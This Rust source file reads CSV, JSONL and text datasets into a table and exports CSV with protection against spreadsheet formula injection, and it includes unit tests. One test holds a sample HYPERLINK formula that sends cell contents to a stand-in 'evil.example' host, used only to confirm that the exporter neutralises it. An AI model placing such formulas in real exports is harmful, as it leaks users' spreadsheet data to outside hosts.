//! Datasets for the workspace: reading CSV, JSONL and TXT files into a table, and writing
//! predictions back out as CSV or JSONL. CSV goes through the `csv` crate (RFC 4180: quoted
//! fields with commas, quotes and newlines; CRLF); a UTF-8 byte-order mark is dropped.

use serde_json::value::RawValue;
use std::collections::HashMap;

/// A table of strings: column names, and rows with one cell per column.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Table {
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Jsonl,
    Txt,
}

impl Format {
    /// From a file name's extension (`.csv`, `.tsv` is not supported, `.jsonl`/`.ndjson`, `.txt`).
    pub fn from_name(name: &str) -> Option<Self> {
        let ext = name.rsplit_once('.')?.1.to_ascii_lowercase();
        match ext.as_str() {
            "csv" => Some(Format::Csv),
            "jsonl" | "ndjson" | "json" => Some(Format::Jsonl),
            "txt" | "text" => Some(Format::Txt),
            _ => None,
        }
    }
}

/// The largest file read: a 500,000-row, 100 MB CSV fits with room; much more would not fit
/// the wasm's memory (at most 4 GiB) once parsed and handed to the page.
pub const MAX_FILE_BYTES: usize = 250_000_000;
/// The most columns a dataset may have.
pub const MAX_COLUMNS: usize = 1_000;
/// The most cells all rows may hold together (a row counts at least one), e.g. 500,000 rows of
/// 40 columns. Counted as rows are read, so an n × n file fails before it is n² cells.
pub const MAX_CELLS: usize = 20_000_000;

/// Reads `bytes` (UTF-8, BOM allowed) in `format`. Errors name the line, and the limit when
/// the file is beyond [`MAX_FILE_BYTES`], [`MAX_COLUMNS`] or [`MAX_CELLS`] (checked before the
/// rows are built, never after). Rows are as long as the file makes them: a CSV row with fewer
/// cells than the header, or a JSONL line without the later keys, is not padded (readers take a
/// missing cell as empty).
pub fn parse(bytes: &[u8], format: Format) -> Result<Table, String> {
    if bytes.len() > MAX_FILE_BYTES {
        return Err(format!(
            "the file is {} MB; at most {} MB are allowed",
            bytes.len().div_ceil(1_000_000),
            MAX_FILE_BYTES / 1_000_000
        ));
    }
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let text = std::str::from_utf8(bytes)
        .map_err(|e| format!("the file is not UTF-8 text (at byte {})", e.valid_up_to()))?;
    match format {
        Format::Csv => parse_csv(text),
        Format::Jsonl => parse_jsonl(text),
        Format::Txt => parse_txt(text),
    }
}

/// Counts the cells of the rows read so far against [`MAX_CELLS`].
#[derive(Default)]
struct CellCount(usize);

impl CellCount {
    /// Adds a row of `cells` cells read at `line` ("CSV line 7").
    fn add(&mut self, cells: usize, line: impl FnOnce() -> String) -> Result<(), String> {
        self.0 += cells.max(1);
        if self.0 > MAX_CELLS {
            return Err(format!(
                "{}: the file has more than {MAX_CELLS} cells (rows × columns); at most \
                 {MAX_CELLS} are allowed",
                line()
            ));
        }
        Ok(())
    }
}

fn parse_txt(text: &str) -> Result<Table, String> {
    let mut cells = CellCount::default();
    let mut rows = Vec::new();
    for (n, l) in text.lines().enumerate() {
        if l.trim().is_empty() {
            continue;
        }
        cells.add(1, || format!("line {}", n + 1))?;
        rows.push(vec![l.to_owned()]);
    }
    Ok(Table {
        columns: vec!["text".into()],
        rows,
    })
}

/// CSV per RFC 4180 through `csv-core`, field by field, so that a record's cells are counted
/// (and refused beyond the limits) as they are read rather than after the whole record is
/// in memory.
fn parse_csv(text: &str) -> Result<Table, String> {
    let mut reader = csv_core::Reader::new();
    let mut input = text.as_bytes();
    let mut scratch = vec![0u8; 64 * 1024];
    let mut field: Vec<u8> = Vec::new();
    // The record being read: its cells (as many as may be kept), how many it has, its line.
    let mut record: Vec<String> = Vec::new();
    let mut fields = 0usize;
    let mut record_line = 1;
    let mut columns: Option<Vec<String>> = None;
    let mut rows = Vec::new();
    let mut cells = CellCount::default();
    loop {
        let (result, nin, nout) = reader.read_field(input, &mut scratch);
        input = &input[nin..];
        field.extend_from_slice(&scratch[..nout]);
        let record_end = match result {
            csv_core::ReadFieldResult::InputEmpty | csv_core::ReadFieldResult::OutputFull => {
                continue
            }
            csv_core::ReadFieldResult::End => break,
            csv_core::ReadFieldResult::Field { record_end } => record_end,
        };
        if fields == 0 {
            record_line = line_of_record_start(&reader, &field, record_end);
        }
        fields += 1;
        // Keep the cell only while the record is within its limit; count on regardless, so the
        // message can say how many there are.
        let keep = match &columns {
            None => MAX_COLUMNS,
            Some(c) => c.len(),
        };
        if record.len() < keep {
            record.push(utf8(std::mem::take(&mut field)));
        }
        field.clear();
        if !record_end {
            continue;
        }
        match &columns {
            None => {
                if fields > MAX_COLUMNS {
                    return Err(format!(
                        "the CSV header has {fields} columns; at most {MAX_COLUMNS} are allowed"
                    ));
                }
                columns = Some(header_names(&record));
            }
            Some(c) => {
                let blank = fields <= 1 && record.iter().all(String::is_empty);
                if fields > c.len() {
                    return Err(format!(
                        "CSV line {record_line} has {fields} cells, the header has {}",
                        c.len()
                    ));
                }
                if !blank {
                    cells.add(fields, || format!("CSV line {record_line}"))?;
                    rows.push(std::mem::take(&mut record));
                }
            }
        }
        record.clear();
        fields = 0;
    }
    match columns {
        Some(columns) if !columns.is_empty() => Ok(Table { columns, rows }),
        _ => Err("the CSV file is empty".into()),
    }
}

/// The line a record starts on, read when its first field ends: `csv-core` has counted the
/// newlines up to there, including any inside that quoted field and the record's own end.
fn line_of_record_start(reader: &csv_core::Reader, field: &[u8], record_end: bool) -> u64 {
    let inside = field.iter().filter(|&&b| b == b'\n').count() as u64;
    reader
        .line()
        .saturating_sub(inside + u64::from(record_end))
        .max(1)
}

/// A field's bytes as text. The input is UTF-8 and CSV splits it only at ASCII bytes, so this
/// never replaces anything; it just cannot panic.
fn utf8(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

fn header_names(record: &[String]) -> Vec<String> {
    record
        .iter()
        .enumerate()
        .map(|(i, h)| {
            if h.trim().is_empty() {
                format!("column {}", i + 1)
            } else {
                h.trim().to_owned()
            }
        })
        .collect()
}

/// A JSON line: an object with its keys in file order (serde_json's map sorts them) and each
/// value as it is written in the file (not parsed into a tree: a value is one cell), or a bare
/// string.
enum Line<'a> {
    Object(Vec<(String, &'a RawValue)>),
    Text(String),
    Other,
}

impl<'de> serde::Deserialize<'de> for Line<'de> {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = Line<'de>;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("an object or a string")
            }
            fn visit_map<A: serde::de::MapAccess<'de>>(
                self,
                mut map: A,
            ) -> Result<Line<'de>, A::Error> {
                let mut pairs = Vec::new();
                while let Some((k, v)) = map.next_entry::<String, &'de RawValue>()? {
                    if pairs.len() == MAX_COLUMNS {
                        return Err(serde::de::Error::custom(format!(
                            "more than {MAX_COLUMNS} keys; at most {MAX_COLUMNS} columns are allowed"
                        )));
                    }
                    pairs.push((k, v));
                }
                Ok(Line::Object(pairs))
            }
            fn visit_str<E>(self, s: &str) -> Result<Line<'de>, E> {
                Ok(Line::Text(s.to_owned()))
            }
            fn visit_seq<A: serde::de::SeqAccess<'de>>(
                self,
                mut seq: A,
            ) -> Result<Line<'de>, A::Error> {
                while seq.next_element::<serde::de::IgnoredAny>()?.is_some() {}
                Ok(Line::Other)
            }
            fn visit_bool<E>(self, _: bool) -> Result<Line<'de>, E> {
                Ok(Line::Other)
            }
            fn visit_i64<E>(self, _: i64) -> Result<Line<'de>, E> {
                Ok(Line::Other)
            }
            fn visit_u64<E>(self, _: u64) -> Result<Line<'de>, E> {
                Ok(Line::Other)
            }
            fn visit_f64<E>(self, _: f64) -> Result<Line<'de>, E> {
                Ok(Line::Other)
            }
            fn visit_unit<E>(self) -> Result<Line<'de>, E> {
                Ok(Line::Other)
            }
        }
        d.deserialize_any(V)
    }
}

fn parse_jsonl(text: &str) -> Result<Table, String> {
    let mut columns: Vec<String> = Vec::new();
    // Column index by key: a file's lines may bring hundreds of keys.
    let mut index: HashMap<String, usize> = HashMap::new();
    let mut rows = Vec::new();
    let mut cells = CellCount::default();
    for (n, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let parsed: Line =
            serde_json::from_str(line).map_err(|e| format!("JSONL line {}: {e}", n + 1))?;
        let pairs: Vec<(String, String)> = match parsed {
            Line::Object(pairs) => pairs.into_iter().map(|(k, v)| (k, cell_text(v))).collect(),
            // A bare string is the line's text.
            Line::Text(s) => vec![("text".to_owned(), s)],
            Line::Other => {
                return Err(format!(
                    "JSONL line {}: expected an object or a string",
                    n + 1
                ))
            }
        };
        let mut at: Vec<(usize, String)> = Vec::with_capacity(pairs.len());
        for (key, value) in pairs {
            let i = match index.get(&key) {
                Some(&i) => i,
                None => {
                    if columns.len() == MAX_COLUMNS {
                        return Err(format!(
                            "JSONL line {}: the lines have more than {MAX_COLUMNS} different keys \
                             (columns); at most {MAX_COLUMNS} are allowed",
                            n + 1
                        ));
                    }
                    index.insert(key.clone(), columns.len());
                    columns.push(key);
                    columns.len() - 1
                }
            };
            at.push((i, value));
        }
        // The row reaches as far as its last key's column, no further.
        let width = at.iter().map(|&(i, _)| i + 1).max().unwrap_or(0);
        cells.add(width, || format!("JSONL line {}", n + 1))?;
        let mut row = vec![String::new(); width];
        for (i, value) in at {
            // A repeated key: the last one wins, as in JavaScript's JSON.parse.
            row[i] = value;
        }
        rows.push(row);
    }
    Ok(Table { columns, rows })
}

/// A JSON value as a cell: strings as they are, null as empty, other values as written.
fn cell_text(v: &RawValue) -> String {
    let raw = v.get();
    match raw.as_bytes().first() {
        Some(b'"') => serde_json::from_str::<String>(raw).unwrap_or_default(),
        Some(b'n') if raw == "null" => String::new(),
        _ => raw.to_owned(),
    }
}

/// Writes a table as CSV for a spreadsheet (`\n` line ends), neutralising formula injection as
/// OWASP's CSV-injection guidance recommends: every cell is quoted, and every cell, header
/// included, that a spreadsheet would run as a formula gets a leading `'` ([`spreadsheet_safe`]).
/// Input columns and model output alike: a dataset or a prompt-injected model can carry
/// `=HYPERLINK(…)`. Only CSV is changed; JSONL and the page's table keep the text as it is.
pub fn to_csv(table: &Table) -> String {
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    let safe = |cells: &[String]| -> Vec<String> {
        cells
            .iter()
            .map(|c| spreadsheet_safe(c).into_owned())
            .collect()
    };
    writer
        .write_record(safe(&table.columns))
        .expect("writing to memory");
    for row in &table.rows {
        writer.write_record(safe(row)).expect("writing to memory");
    }
    String::from_utf8(writer.into_inner().expect("flush to memory")).expect("input was UTF-8")
}

/// `cell` with a `'` in front when it starts with what Excel, LibreOffice or Google Sheets read
/// as a formula (`=`, `+`, `-`, `@`, tab, carriage return: OWASP's list), so it is shown as text.
/// A negative number such as `-3` becomes `'-3` too: the price of never running a formula.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// CSV exports and formula injection (issue 11, item 10). A module of its own, beside the code
/// it tests.
#[cfg(test)]
mod formula_injection {
    use super::*;

    #[test]
    fn every_cell_that_starts_a_formula_is_prefixed_and_quoted() {
        let evil = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ];
        let t = Table {
            columns: vec!["=text".into(), "labels".into()],
            rows: evil
                .iter()
                .map(|e| vec![(*e).to_owned(), (*e).to_owned()])
                .collect(),
        };
        let out = to_csv(&t);
        assert!(out.starts_with("\"'=text\",\"labels\"\n"), "{out}");
        assert!(
            out.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
            "{out}"
        );
        let back = parse(out.as_bytes(), Format::Csv).unwrap();
        assert_eq!(back.columns, vec!["'=text", "labels"]);
        for (row, e) in back.rows.iter().zip(evil) {
            assert_eq!(row, &vec![format!("'{e}"), format!("'{e}")]);
        }
    }

    #[test]
    fn other_cells_are_kept_as_they_are_only_quoted() {
        let t = Table {
            columns: vec!["text".into(), "labels".into()],
            rows: vec![
                vec!["a=b".into(), "".into()],
                vec![" =1".into(), "positive; negative".into()],
                vec!["'quoted".into(), "x-y".into()],
            ],
        };
        let out = to_csv(&t);
        assert_eq!(
            out,
            "\"text\",\"labels\"\n\"a=b\",\"\"\n\" =1\",\"positive; negative\"\n\"'quoted\",\"x-y\"\n"
        );
        assert_eq!(parse(out.as_bytes(), Format::Csv).unwrap(), t);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv(s: &str) -> Table {
        parse(s.as_bytes(), Format::Csv).unwrap()
    }

    #[test]
    fn quoted_newlines_commas_and_quotes() {
        let t = csv("id,text\n1,\"hello, \"\"world\"\"\nsecond line\"\n2,plain\n");
        assert_eq!(t.columns, vec!["id", "text"]);
        assert_eq!(
            t.rows,
            vec![
                vec!["1", "hello, \"world\"\nsecond line"],
                vec!["2", "plain"]
            ]
        );
    }

    #[test]
    fn bom_crlf_and_empty_cells() {
        let t = parse(
            b"\xEF\xBB\xBFtext,gold,extra\r\na,,\r\n,b,c\r\n\r\nd,e\r\n",
            Format::Csv,
        )
        .unwrap();
        assert_eq!(
            t.columns,
            vec!["text", "gold", "extra"],
            "the BOM is not part of the first column name"
        );
        // Rows are as long as the file makes them (a short row is not padded).
        assert_eq!(
            t.rows,
            vec![vec!["a", "", ""], vec!["", "b", "c"], vec!["d", "e"]]
        );
    }

    #[test]
    fn errors_name_the_line() {
        let e = parse("a,b\n1,2,3\n".as_bytes(), Format::Csv).unwrap_err();
        assert!(e.contains("line 2"), "{e}");
        assert!(parse(b"\xff\xfe", Format::Csv)
            .unwrap_err()
            .contains("UTF-8"));
        let e = parse("{\"a\":1}\nnot json\n".as_bytes(), Format::Jsonl).unwrap_err();
        assert!(e.starts_with("JSONL line 2"), "{e}");
    }

    #[test]
    fn jsonl_columns_are_the_union_of_keys() {
        let t = parse(
            "{\"text\":\"hi\",\"n\":1}\n\n{\"label\":\"x\",\"text\":\"yo\"}\n\"bare\"\n".as_bytes(),
            Format::Jsonl,
        )
        .unwrap();
        assert_eq!(t.columns, vec!["text", "n", "label"]);
        // Each row reaches its last key's column, no further.
        assert_eq!(
            t.rows,
            vec![vec!["hi", "1"], vec!["yo", "", "x"], vec!["bare"]]
        );
    }

    #[test]
    fn txt_is_one_row_per_line() {
        let t = parse("one\r\n\ntwo\n".as_bytes(), Format::Txt).unwrap();
        assert_eq!(t.rows, vec![vec!["one"], vec!["two"]]);
    }

    #[test]
    fn csv_round_trips() {
        let t = Table {
            columns: vec!["text".into(), "labels".into()],
            rows: vec![
                vec!["a, \"b\"\nc".into(), "x;y".into()],
                vec!["".into(), "z".into()],
            ],
        };
        assert_eq!(csv(&to_csv(&t)), t);
    }

    #[test]
    fn formats_from_names() {
        assert_eq!(Format::from_name("data.CSV"), Some(Format::Csv));
        assert_eq!(Format::from_name("x.jsonl"), Some(Format::Jsonl));
        assert_eq!(Format::from_name("notes.txt"), Some(Format::Txt));
        assert_eq!(Format::from_name("x.xlsx"), None);
    }
}
